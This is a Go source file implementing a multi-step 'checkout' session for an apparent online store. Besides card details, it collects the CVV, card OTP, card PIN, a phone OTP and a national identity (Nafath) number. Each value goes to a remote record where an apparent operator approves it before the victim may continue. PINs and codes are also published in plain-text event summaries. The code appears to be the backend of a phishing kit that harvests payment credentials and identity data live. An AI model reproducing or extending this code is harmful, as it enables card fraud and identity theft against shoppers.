package checkout

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog"

	"SidraStore/internal/core/domain"
	"SidraStore/internal/core/ports"
)

// Delays collects every pacing constant in the wizard. Tests shrink
// them; production uses DefaultDelays.
type Delays struct {
	Transition time.Duration // visual pacing before a step commit
	Advance    time.Duration // gap between an approval edge and auto-advance
	Coalesce   time.Duration // snapshot burst coalescing window
	Persist    time.Duration // shipping save debounce
	Resend     time.Duration // OTP resend window
}

// DefaultDelays returns the production pacing.
func DefaultDelays() Delays {
	return Delays{
		Transition: 800 * time.Millisecond,
		Advance:    300 * time.Millisecond,
		Coalesce:   100 * time.Millisecond,
		Persist:    time.Second,
		Resend:     30 * time.Second,
	}
}

// Deps wires a session to its collaborators.
type Deps struct {
	Store  ports.DocumentStore
	Local  ports.KVStore
	Cart   ports.Cart
	Bus    ports.EventBus // optional; review notifications are skipped when nil
	Logger *zerolog.Logger
	Delays Delays // zero value means DefaultDelays
	Now    func() time.Time

	// LocalPrefix namespaces the shipping slot when several sessions
	// share one KV store.
	LocalPrefix string

	// VisitorID pins the session to a known identifier. When empty the
	// persistence bridge reads or mints one.
	VisitorID string
}

// ErrClosed is returned by operations on a closed session.
var ErrClosed = errors.New("checkout: session closed")

// Session is one shopper's pass through the checkout wizard. All state
// transitions funnel through it: user-initiated submissions on one side,
// asynchronously delivered approval signals on the other. Handlers check
// staleness before acting because the shopper can navigate back while a
// write is in flight.
type Session struct {
	mu  sync.Mutex
	log zerolog.Logger

	id     string
	store  ports.DocumentStore
	cart   ports.Cart
	bus    ports.EventBus
	delays Delays
	now    func() time.Time

	bridge   *Bridge
	listener *approvalListener
	presence *presenceHandle
	resend   *ResendTimer

	step              domain.Step
	transitioning     bool
	waiting           bool
	approvalMessage   string
	verificationError string
	rejectionError    string
	orderError        string

	shipping       domain.ShippingInfo
	shippingErrors map[string]string
	payment        domain.PaymentInfo
	paymentErrors  map[string]string
	phone2         string
	phone2Error    string
	operator       string

	cardOtp  string
	cardPin  string
	phoneOtp string
	nafathID string

	timers []*time.Timer
	closed bool
}

// NewSession builds a session: ensures the visitor identifier exists,
// restores any persisted shipping form, starts presence tracking, and
// opens the single live subscription to the checkout record.
func NewSession(ctx context.Context, deps Deps) (*Session, error) {
	if deps.Store == nil || deps.Local == nil || deps.Cart == nil {
		return nil, errors.New("checkout: store, local storage and cart are required")
	}
	if deps.Delays == (Delays{}) {
		deps.Delays = DefaultDelays()
	}
	if deps.Now == nil {
		deps.Now = time.Now
	}
	nop := zerolog.Nop()
	if deps.Logger == nil {
		deps.Logger = &nop
	}

	bridge := NewBridge(deps.Local, deps.LocalPrefix, deps.Delays.Persist, deps.Logger)

	id := deps.VisitorID
	if id == "" {
		var err error
		id, err = bridge.VisitorID()
		if err != nil {
			return nil, err
		}
	}

	s := &Session{
		log:            deps.Logger.With().Str("component", "checkout_session").Str("visitor_id", id).Logger(),
		id:             id,
		store:          deps.Store,
		cart:           deps.Cart,
		bus:            deps.Bus,
		delays:         deps.Delays,
		now:            deps.Now,
		bridge:         bridge,
		step:           domain.StepCart,
		shippingErrors: make(map[string]string),
		paymentErrors:  make(map[string]string),
		resend:         NewResendTimer(deps.Delays.Resend, deps.Now),
	}

	if saved, ok := bridge.LoadShipping(); ok {
		s.shipping = saved
	}

	s.listener = newApprovalListener(deps.Delays.Coalesce, s.handleSnapshot, deps.Logger)
	s.listener.Start(deps.Store, id)
	s.presence = startPresence(ctx, deps.Store, id, deps.Logger)

	s.log.Info().Msg("Checkout session started")
	return s, nil
}

// VisitorID returns the stable session identifier.
func (s *Session) VisitorID() string { return s.id }

// Cart returns the session's cart.
func (s *Session) Cart() ports.Cart { return s.cart }

// Step returns the current wizard step.
func (s *Session) Step() domain.Step {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.step
}

// State is a read-only snapshot of the session for display.
type State struct {
	VisitorID          string              `json:"visitorId"`
	Step               domain.Step         `json:"step"`
	Transitioning      bool                `json:"transitioning"`
	WaitingForApproval bool                `json:"waitingForApproval"`
	ApprovalMessage    string              `json:"approvalMessage,omitempty"`
	VerificationError  string              `json:"verificationError,omitempty"`
	RejectionError     string              `json:"rejectionError,omitempty"`
	OrderError         string              `json:"orderError,omitempty"`
	ShippingErrors     map[string]string   `json:"shippingErrors,omitempty"`
	PaymentErrors      map[string]string   `json:"paymentErrors,omitempty"`
	Phone2Error        string              `json:"phone2Error,omitempty"`
	Shipping           domain.ShippingInfo `json:"shipping"`
	CanResend          bool                `json:"canResend"`
	ResendSeconds      int                 `json:"resendSeconds"`
	Items              []domain.CartItem   `json:"items"`
	Pricing            domain.Pricing      `json:"pricing"`
}

// State returns a display snapshot.
func (s *Session) State() State {
	s.mu.Lock()
	defer s.mu.Unlock()
	return State{
		VisitorID:          s.id,
		Step:               s.step,
		Transitioning:      s.transitioning,
		WaitingForApproval: s.waiting,
		ApprovalMessage:    s.approvalMessage,
		VerificationError:  s.verificationError,
		RejectionError:     s.rejectionError,
		OrderError:         s.orderError,
		ShippingErrors:     copyErrors(s.shippingErrors),
		PaymentErrors:      copyErrors(s.paymentErrors),
		Phone2Error:        s.phone2Error,
		Shipping:           s.shipping,
		CanResend:          s.resend.CanResend(),
		ResendSeconds:      s.resend.Remaining(),
		Items:              s.cart.Items(),
		Pricing:            domain.ComputePricing(s.cart.Subtotal()),
	}
}

func copyErrors(m map[string]string) map[string]string {
	if len(m) == 0 {
		return nil
	}
	out := make(map[string]string, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

// --- Transitions ---

// Transition moves the wizard to next after the visual pacing delay.
// The delay is deliberate UX pacing, not a network wait. Committing
// clears the waiting flag and the step-level verification error;
// sequencing correctness belongs to the callers.
func (s *Session) Transition(next domain.Step) error {
	if !next.Valid() {
		return fmt.Errorf("checkout: unknown step %q", next)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.transitionLocked(next)
	return nil
}

func (s *Session) transitionLocked(next domain.Step) {
	s.transitioning = true
	from := s.step
	t := time.AfterFunc(s.delays.Transition, func() {
		s.mu.Lock()
		defer s.mu.Unlock()
		if s.closed {
			return
		}
		s.step = next
		s.transitioning = false
		s.waiting = false
		s.verificationError = ""
		s.log.Debug().Str("from", string(from)).Str("to", string(next)).Msg("Step committed")

		// Leaving the shipping step flushes last-second edits.
		if from == domain.StepShipping && s.shipping.FullName != "" {
			s.bridge.Flush()
		}
		// Entering an OTP step re-arms the full resend window.
		if next == domain.StepCardOtp || next == domain.StepPhoneOtp {
			s.resend.Restart()
		}
	})
	s.timers = append(s.timers, t)
}

// Back returns to the immediately preceding step. Re-entering a step
// resets its transient error and waiting flags; the already-written
// pending record is not retracted, but any late approval for the
// abandoned step is discarded by the step-equality guard.
func (s *Session) Back() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	prev, ok := s.step.Prev()
	if !ok {
		return fmt.Errorf("checkout: no step precedes %q", s.step)
	}
	s.rejectionError = ""
	s.transitionLocked(prev)
	return nil
}

// --- Form input ---

// SetShipping replaces the shipping form and schedules a debounced save
// while the shopper is on the shipping step.
func (s *Session) SetShipping(info domain.ShippingInfo) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.shipping = info
	s.shippingErrors = make(map[string]string)
	if s.step == domain.StepShipping && info.FullName != "" {
		s.bridge.SaveShippingDebounced(info)
	}
}

// SetPayment replaces the payment form. Never persisted locally.
func (s *Session) SetPayment(info domain.PaymentInfo) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.payment = info
	s.paymentErrors = make(map[string]string)
}

// SetCardOtp buffers the card OTP input (digits only).
func (s *Session) SetCardOtp(code string) { s.setBuffer(&s.cardOtp, code, 6) }

// SetCardPin buffers the card PIN input (digits only).
func (s *Session) SetCardPin(pin string) { s.setBuffer(&s.cardPin, pin, 4) }

// SetPhoneOtp buffers the phone OTP input (digits only).
func (s *Session) SetPhoneOtp(code string) { s.setBuffer(&s.phoneOtp, code, 6) }

// SetNafathID buffers the national identity number (digits only).
func (s *Session) SetNafathID(id string) { s.setBuffer(&s.nafathID, id, 10) }

// SetPhone2 buffers the second phone number for phone verification.
func (s *Session) SetPhone2(phone string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.phone2 = phone
	s.phone2Error = ""
}

// SetOperator selects the mobile operator for phone verification.
func (s *Session) SetOperator(operator string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.operator = operator
	s.phone2Error = ""
}

func (s *Session) setBuffer(dst *string, value string, max int) {
	digits := digitsOnly(value)
	if len(digits) > max {
		digits = digits[:max]
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	*dst = digits
}

func digitsOnly(s string) string {
	var sb strings.Builder
	for _, r := range s {
		if r >= '0' && r <= '9' {
			sb.WriteRune(r)
		}
	}
	return sb.String()
}

// --- Step submissions ---

// SubmitShipping validates the shipping form, merges it into the
// checkout record together with the current order total, and advances
// to payment. Validation failures block both the write and the
// transition.
func (s *Session) SubmitShipping(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	errs := map[string]string{}
	if msg := ValidateName(s.shipping.FullName); msg != "" {
		errs["fullName"] = msg
	}
	if msg := ValidatePhone(s.shipping.Phone); msg != "" {
		errs["phone"] = msg
	}
	if msg := ValidateCity(s.shipping.City); msg != "" {
		errs["city"] = msg
	}
	s.shippingErrors = errs
	if len(errs) > 0 {
		s.mu.Unlock()
		return nil
	}
	info := s.shipping
	pricing := domain.ComputePricing(s.cart.Subtotal())
	s.mu.Unlock()

	patch := map[string]any{
		"fullName": info.FullName,
		"phone":    info.Phone,
		"city":     info.City,
		"amount":   pricing.Total,
	}
	if info.District != "" {
		patch["district"] = info.District
	}
	if info.Street != "" {
		patch["street"] = info.Street
	}
	if err := s.store.WriteMerge(ctx, s.id, patch); err != nil {
		s.log.Error().Err(err).Msg("Failed to write shipping data")
		s.setVerificationError(msgOrderFailed)
		return err
	}

	return s.Transition(domain.StepPayment)
}

// SubmitPayment validates the payment form, merges the non-sensitive
// subset (last four digits, cardholder, expiry) into the record, and
// advances to the card OTP step. The full card number and CVV never
// leave the session except inside the gated card-OTP payload.
func (s *Session) SubmitPayment(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	errs := map[string]string{}
	if msg := ValidateCardNumber(s.payment.CardNumber); msg != "" {
		errs["cardNumber"] = msg
	}
	if msg := ValidateCardName(s.payment.CardName); msg != "" {
		errs["cardName"] = msg
	}
	if msg := ValidateExpiry(s.payment.ExpiryDate, s.now()); msg != "" {
		errs["expiryDate"] = msg
	}
	if msg := ValidateCVV(s.payment.CVV); msg != "" {
		errs["cvv"] = msg
	}
	s.paymentErrors = errs
	if len(errs) > 0 {
		s.mu.Unlock()
		return nil
	}
	info := s.payment
	s.mu.Unlock()

	patch := map[string]any{
		"cardLast4":  lastFour(info.CardNumber),
		"cardName":   info.CardName,
		"expiryDate": info.ExpiryDate,
	}
	if err := s.store.WriteMerge(ctx, s.id, patch); err != nil {
		s.log.Error().Err(err).Msg("Failed to write payment data")
		s.setVerificationError(msgOrderFailed)
		return err
	}

	return s.Transition(domain.StepCardOtp)
}

func lastFour(cardNumber string) string {
	digits := digitsOnly(cardNumber)
	if len(digits) <= 4 {
		return digits
	}
	return digits[len(digits)-4:]
}

// SubmitPhoneVerification validates the second phone number and the
// selected operator, then issues the phone OTP and advances.
func (s *Session) SubmitPhoneVerification(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if s.operator == "" {
		s.phone2Error = msgSelectOperator
		s.mu.Unlock()
		return nil
	}
	if msg := ValidatePhone(s.phone2); msg != "" {
		s.phone2Error = msg
		s.mu.Unlock()
		return nil
	}
	s.phone2Error = ""
	s.mu.Unlock()

	return s.sendPhoneOtp(ctx)
}

// SubmitCardOtp implements the gated submission contract for the card
// OTP step: local length check, merge-write of the tagged payload, then
// wait. The transition itself is triggered only by the approval
// listener.
func (s *Session) SubmitCardOtp(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if s.step != domain.StepCardOtp {
		s.mu.Unlock()
		return nil
	}
	if len(s.cardOtp) < 4 {
		s.verificationError = msgEnterValidOtp
		s.mu.Unlock()
		return nil
	}
	payload := domain.CardOtpPayload{
		CardNumber:  lastFour(s.payment.CardNumber),
		CardName:    s.payment.CardName,
		CVV:         s.payment.CVV,
		Code:        s.cardOtp,
		SubmittedAt: s.now(),
	}
	summary := fmt.Sprintf("card OTP %s", payload.Code)
	s.mu.Unlock()

	return s.submitGated(ctx, domain.StepCardOtp, payload, summary)
}

// SubmitCardPin implements the gated submission contract for the card
// PIN step. A successful submission also detects the shipping phone's
// operator ahead of the phone-verification step.
func (s *Session) SubmitCardPin(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if s.step != domain.StepCardPin {
		s.mu.Unlock()
		return nil
	}
	if len(s.cardPin) != 4 {
		s.verificationError = msgEnterValidPin
		s.mu.Unlock()
		return nil
	}
	payload := domain.CardPinPayload{PIN: s.cardPin, SubmittedAt: s.now()}
	shippingPhone := s.shipping.Phone
	s.mu.Unlock()

	if err := s.submitGated(ctx, domain.StepCardPin, payload, "card PIN "+payload.PIN); err != nil {
		return err
	}

	s.mu.Lock()
	if s.waiting && s.step == domain.StepCardPin {
		s.operator = DetectOperator(shippingPhone)
	}
	s.mu.Unlock()
	return nil
}

// SubmitPhoneOtp implements the gated submission contract for the phone
// OTP step.
func (s *Session) SubmitPhoneOtp(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if s.step != domain.StepPhoneOtp {
		s.mu.Unlock()
		return nil
	}
	if len(s.phoneOtp) < 4 {
		s.verificationError = msgEnterValidOtp
		s.mu.Unlock()
		return nil
	}
	payload := domain.PhoneOtpPayload{
		Phone:       s.phone2,
		Code:        s.phoneOtp,
		Operator:    s.operator,
		SubmittedAt: s.now(),
	}
	s.mu.Unlock()

	return s.submitGated(ctx, domain.StepPhoneOtp, payload, "phone OTP "+payload.Code)
}

// SubmitNafath implements the gated submission contract for the
// national-identity step.
func (s *Session) SubmitNafath(ctx context.Context) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	if s.step != domain.StepNafath {
		s.mu.Unlock()
		return nil
	}
	if msg := ValidateNafathID(s.nafathID); msg != "" {
		s.verificationError = msg
		s.mu.Unlock()
		return nil
	}
	payload := domain.NafathPayload{IdentityNumber: s.nafathID, SubmittedAt: s.now()}
	s.mu.Unlock()

	return s.submitGated(ctx, domain.StepNafath, payload, "identity "+payload.IdentityNumber)
}

// submitGated writes one gated-step payload as a pending merge and arms
// the waiting state. It never transitions: advancement belongs solely
// to the approval listener. A failed write leaves waiting false so the
// shopper can retry immediately.
func (s *Session) submitGated(ctx context.Context, step domain.Step, payload domain.StepPayload, summary string) error {
	patch := domain.StepSubmission(step, payload, s.now())

	// The patch sets the approval field back to pending. Re-arm the edge
	// before the write lands so a reviewer decision arriving right after
	// it counts, even if the coalescer skips the pending snapshot.
	s.listener.ResetApproval(step.RecordKey())

	err := s.store.WriteMerge(ctx, s.id, patch)

	s.mu.Lock()
	if s.closed || s.step != step {
		// The shopper navigated away while the write was in flight; the
		// pending record stands but the session moves on.
		s.mu.Unlock()
		return nil
	}
	if err != nil {
		s.verificationError = msgOrderFailed
		s.mu.Unlock()
		s.log.Error().Err(err).Str("step", string(step)).Msg("Gated step write failed")
		return err
	}
	s.verificationError = ""
	s.rejectionError = ""
	s.waiting = true
	s.approvalMessage = progressMessage(step)
	s.mu.Unlock()

	s.log.Info().Str("step", string(step)).Msg("Step submitted, awaiting review")
	s.publishSubmitted(ctx, step, summary)
	return nil
}

func (s *Session) publishSubmitted(ctx context.Context, step domain.Step, summary string) {
	if s.bus == nil {
		return
	}
	event := ports.StepSubmittedEvent{
		VisitorID: s.id,
		StepKey:   step.RecordKey(),
		Summary:   summary,
	}
	if err := s.bus.Publish(ctx, ports.TopicStepSubmitted, event); err != nil {
		s.log.Warn().Err(err).Msg("Failed to publish step_submitted event")
	}
}

func (s *Session) setVerificationError(msg string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.verificationError = msg
}

// --- OTP resend ---

// ResendOtp re-issues the OTP side effect for the current OTP step:
// clears the input buffer, performs a fresh external-facing write, and
// restarts the countdown. A no-op while the window is still open.
func (s *Session) ResendOtp(ctx context.Context) error {
	if !s.resend.CanResend() {
		return nil
	}

	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	step := s.step
	s.verificationError = ""
	switch step {
	case domain.StepCardOtp:
		s.cardOtp = ""
	case domain.StepPhoneOtp:
		s.phoneOtp = ""
	default:
		s.mu.Unlock()
		return nil
	}
	s.mu.Unlock()

	var err error
	switch step {
	case domain.StepCardOtp:
		err = s.sendCardOtp(ctx)
	case domain.StepPhoneOtp:
		err = s.sendPhoneOtp(ctx)
	}
	if err != nil {
		return err
	}
	s.resend.Restart()
	return nil
}

// sendCardOtp records the card OTP issuance in the remote store (the
// external notification channel picks it up from there).
func (s *Session) sendCardOtp(ctx context.Context) error {
	s.mu.Lock()
	phone := s.shipping.Phone
	s.mu.Unlock()

	patch := map[string]any{
		"otpPhone":   phone,
		"otpSentAt":  s.now().UTC().Format(time.RFC3339),
		"otpExpires": s.now().Add(5 * time.Minute).UTC().Format(time.RFC3339),
	}
	if err := s.store.WriteMerge(ctx, s.id, patch); err != nil {
		s.log.Error().Err(err).Msg("Failed to issue card OTP")
		s.setVerificationError(msgSendOtpFailed)
		return err
	}
	return nil
}

// sendPhoneOtp records the phone + operator pair and moves to the phone
// OTP step if the shopper is not already there.
func (s *Session) sendPhoneOtp(ctx context.Context) error {
	s.mu.Lock()
	phone2, operator := s.phone2, s.operator
	onVerification := s.step == domain.StepPhoneVerification
	s.mu.Unlock()

	patch := map[string]any{
		"phone2":   phone2,
		"operator": operator,
	}
	if err := s.store.WriteMerge(ctx, s.id, patch); err != nil {
		s.log.Error().Err(err).Msg("Failed to issue phone OTP")
		s.setVerificationError(msgSendOtpFailed)
		return err
	}
	if onVerification {
		return s.Transition(domain.StepPhoneOtp)
	}
	return nil
}

// --- Approval handling ---

// handleSnapshot is the listener delivery point. The trigger condition
// for an approval is conjunctive: the field reads approved, the wizard
// is on that step, a submission is actually waiting, and this is a
// fresh edge. Anything else is stale and discarded.
func (s *Session) handleSnapshot(rec domain.Record) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return
	}

	for _, step := range domain.GatedSteps {
		key := step.RecordKey()
		status := rec.Approval(key)
		// Every delivered value updates the last-seen map, whether or
		// not the guard below fires, so the edge tracking follows the
		// record rather than latching on the first approval.
		edge := s.listener.ObserveApproval(key, status)
		switch status {
		case domain.ApprovalApproved:
			if edge && s.step == step && s.waiting {
				s.rejectionError = ""
				s.waiting = false
				s.log.Info().Str("step", string(step)).Msg("Step approved")
				s.scheduleAdvanceLocked(step)
			}
		case domain.ApprovalRejected:
			if s.step == step && s.waiting {
				s.waiting = false
				s.rejectionError = rejectionMessage(step)
				s.log.Info().Str("step", string(step)).Msg("Step rejected")
			}
		}
	}
}

// scheduleAdvanceLocked clears the step's input buffer and commits the
// transition to the next step after the short post-approval delay.
func (s *Session) scheduleAdvanceLocked(step domain.Step) {
	t := time.AfterFunc(s.delays.Advance, func() {
		s.mu.Lock()
		defer s.mu.Unlock()
		if s.closed || s.step != step {
			return
		}
		switch step {
		case domain.StepCardOtp:
			s.cardOtp = ""
		case domain.StepCardPin:
			s.cardPin = ""
		case domain.StepPhoneOtp:
			s.phoneOtp = ""
		}
		next, ok := step.Next()
		if !ok {
			return
		}
		s.transitionLocked(next)
	})
	s.timers = append(s.timers, t)
}

// --- Order finalization ---

// PlaceOrder assembles the final order document, writes it, clears the
// cart, and moves to the success step.
func (s *Session) PlaceOrder(ctx context.Context) (string, error) {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return "", ErrClosed
	}
	s.orderError = ""
	orderID := "order-" + uuid.NewString()
	items := s.cart.Items()
	pricing := domain.ComputePricing(s.cart.Subtotal())

	lines := make([]map[string]any, 0, len(items))
	for _, item := range items {
		lines = append(lines, map[string]any{
			"id":       item.ProductID,
			"name":     item.NameAr,
			"nameEn":   item.NameEn,
			"price":    item.Price,
			"quantity": item.Quantity,
			"imageUrl": item.ImageURL,
			"subtotal": item.Subtotal(),
		})
	}

	doc := map[string]any{
		"id":        orderID,
		"visitorId": s.id,
		"timestamp": s.now().UTC().Format(time.RFC3339),
		"status":    string(domain.OrderPending),
		"shipping": map[string]any{
			"fullName":   s.shipping.FullName,
			"phone":      s.shipping.Phone,
			"city":       s.shipping.City,
			"district":   s.shipping.District,
			"street":     s.shipping.Street,
			"postalCode": s.shipping.PostalCode,
		},
		"payment": map[string]any{
			"cardLast4":       lastFour(s.payment.CardNumber),
			"cardName":        s.payment.CardName,
			"cardOtpVerified": true,
			"cardPinVerified": true,
		},
		"verification": map[string]any{
			"phone2":           s.phone2,
			"phoneProvider":    s.operator,
			"phoneOtpVerified": true,
			"nafathVerified":   s.nafathID != "",
			"verifiedAt":       s.now().UTC().Format(time.RFC3339),
		},
		"items": lines,
		"pricing": map[string]any{
			"subtotal":    pricing.Subtotal,
			"shippingFee": pricing.ShippingFee,
			"tax":         pricing.Tax,
			"taxRate":     pricing.TaxRate,
			"total":       pricing.Total,
		},
	}
	s.mu.Unlock()

	if err := s.store.WriteMerge(ctx, orderID, doc); err != nil {
		s.log.Error().Err(err).Msg("Order submission failed")
		s.mu.Lock()
		s.orderError = msgOrderFailed
		s.mu.Unlock()
		return "", err
	}

	if s.bus != nil {
		event := ports.OrderPlacedEvent{VisitorID: s.id, OrderID: orderID, Total: pricing.Total}
		if err := s.bus.Publish(ctx, ports.TopicOrderPlaced, event); err != nil {
			s.log.Warn().Err(err).Msg("Failed to publish order_placed event")
		}
	}

	s.cart.Clear()
	s.log.Info().Str("order_id", orderID).Msg("Order placed")
	return orderID, s.Transition(domain.StepSuccess)
}

// --- Teardown ---

// Close tears the session down: cancels the subscription and every
// pending timer, flushes the persistence bridge, and releases presence.
// Timers firing after Close are no-ops.
func (s *Session) Close(ctx context.Context) {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	s.closed = true
	timers := s.timers
	s.timers = nil
	s.mu.Unlock()

	for _, t := range timers {
		t.Stop()
	}
	s.listener.Close()
	s.bridge.Close()
	s.presence.Release(ctx)
	s.log.Info().Msg("Checkout session closed")
}
